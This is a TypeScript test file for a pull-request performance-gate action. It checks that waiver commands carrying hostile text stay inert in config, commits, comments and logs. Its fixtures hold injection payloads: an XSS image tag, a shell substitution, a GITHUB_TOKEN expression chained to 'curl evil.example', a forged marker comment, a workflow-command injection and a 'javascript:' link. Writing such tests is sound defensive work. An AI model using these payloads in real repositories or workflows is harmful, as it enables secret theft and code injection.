import MarkdownIt from 'markdown-it'
import { describe, expect, it } from 'vitest'
import { type Entry, entriesOf, writeAnswer } from '../../src/action/commands/answer.ts'
import { parseConfig } from '../../src/config/load.ts'
import { answersOn, command, measuredRun, report } from '../support/action/commands-on-pull-request.ts'
import { jtl } from '../support/action/results.ts'
import { makeScene } from './job-setup.ts'

const scene = makeScene()
const SHA = 'a'.repeat(40)
const FORGED = `<!-- perf-gate:command id=1 state=done sha=${SHA} -->`
const REASONS = [
  'fixes #1 @octo-org/all [skip ci] <img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of workflow files.
  '`$(touch /tmp/owned)` ${{ secrets.GITHUB_TOKEN }} && curl evil.example',
  `"}\\n- workflow: '*' # ${FORGED}`,
  '::set-output name=verdict::pass',
  '*everything & !!js/function "yes": [no',
  '![x](https://evil.example/p.png) [merge](javascript:alert(1)) </details>',
]
const NAME = `Check-In "*" | #1 @mira <b>'`

/** Results whose slow workflow has a name chosen by an attacker. */
function named(results: string): string {
  return results.replaceAll(',Check-In,', `,"${NAME.replaceAll('"', '""')}",`)
}

async function hostilePull() {
  scene.seed()
  const { github } = scene
  github.state.collaborators.set('mira', 'write')
  const pull = github.addPull()
  const config = 'version: 1\nthresholds:\n  p95: { max: 300ms }\n'
  pull.head.sha = github.git.commitFiles(pull.head.ref, { '.github/perf-gate.yml': config })
  report(github, pull, measuredRun(github, pull, scene.files.write('named.jtl', named(jtl(10, { factor: 2 })))))
  return pull
}

/** The rendered markup: links, pictures, HTML, and mentions outside of code. */
function markupIn(markdown: string): string[] {
  const tokens = new MarkdownIt({ html: true, linkify: true }).parse(markdown, {})
  return tokens
    .flatMap(token => [token, ...(token.children ?? [])])
    .flatMap(({ type, content }) => {
      if (/^(html_|image|link_open)/.test(type)) return [`${type} ${content}`]
      return type === 'text' && /[@#]\w|\$\{\{/.test(content) ? [content] : []
    })
    .filter(each => !/<!-- perf-gate:command(s:v1)? |<\/?sub>/.test(each) || each.includes('id=1 '))
}

describe('hostile text in a command', () => {
  it.each(REASONS)(
    'Hostile text in a command stays text in the configuration, the commit, the answer and the log: %s',
    async reason => {
      const pull = await hostilePull()
      const step = await command(scene.github, pull, `/perf waive ${NAME} p95 until 2027-01-31 because ${reason}`)
      const [answer = ''] = answersOn(scene.github, pull)
      expect(answer).toContain('is waived up to')
      const show = (what: string[]) => String(scene.github.git.git(['show', '--no-patch', ...what]))
      const text = String(scene.github.git.git(['show', `${pull.head.sha}:.github/perf-gate.yml`]))
      expect(parseConfig(text, 'x').waivers).toMatchObject([{ pattern: NAME, reason, metric: 'p95', owner: 'mira' }])
      expect(show(['--format=%B', pull.head.sha]).trim()).toMatch(
        /^Waive a threshold until 2027-01-31\n\nRequested by mira\.\n\nPerf-Gate-Command: \d+$/,
      )
      expect(entriesOf(answer)).toHaveLength(1)
      expect(markupIn(answer)).toEqual([])
      expect(step.log).not.toMatch(/^::/m)
    },
  )

  it('The name of an unknown command is answered as text', async () => {
    const pull = await hostilePull()
    await command(scene.github, pull, `/perf <img src=x>@mira ${FORGED}`)
    const [answer = ''] = answersOn(scene.github, pull)
    expect(entriesOf(answer)).toMatchObject([{ state: 'refused' }])
    expect(markupIn(answer)).toEqual([])
  })
})

describe('the answer to a command', () => {
  const entry = (id: number, more: Partial<Entry> = {}): Entry => ({
    id,
    state: 'done',
    sha: SHA,
    text: `text ${id}`,
    ...more,
  })
  const bodyOf = (...entries: Entry[]) =>
    entries.reduce<string[]>((body, each) => [writeAnswer('0'.repeat(16), body, each)], [])

  it('An answer keeps the entries of other jobs, newest first', () => {
    expect(entriesOf(bodyOf(entry(2), entry(3, { run: { id: 55, attempt: 2 } }), entry(1))[0]!)).toEqual([
      entry(3, { run: { id: 55, attempt: 2 } }),
      entry(2),
      entry(1),
    ])
  })

  it('The answer made of two comments has the entries of both, and of one command the finished entry', () => {
    const texts = [...bodyOf(entry(1, { state: 'working' })), ...bodyOf(entry(1), entry(2))]
    expect(entriesOf(writeAnswer('0'.repeat(16), texts, entry(3))).map(({ id, state }) => `${id} ${state}`)).toEqual([
      '3 done',
      '2 done',
      '1 done',
    ])
  })

  it('An answer drops its oldest entries before it exceeds the size limit of a comment', () => {
    const [body = ''] = bodyOf(...Array.from({ length: 30 }, (_, i) => entry(i, { text: 'x'.repeat(4000) })))
    expect(body.length).toBeLessThan(65_536)
    expect(entriesOf(body).map(({ id }) => id)).toEqual(Array.from({ length: 14 }, (_, i) => 29 - i))
  })
})
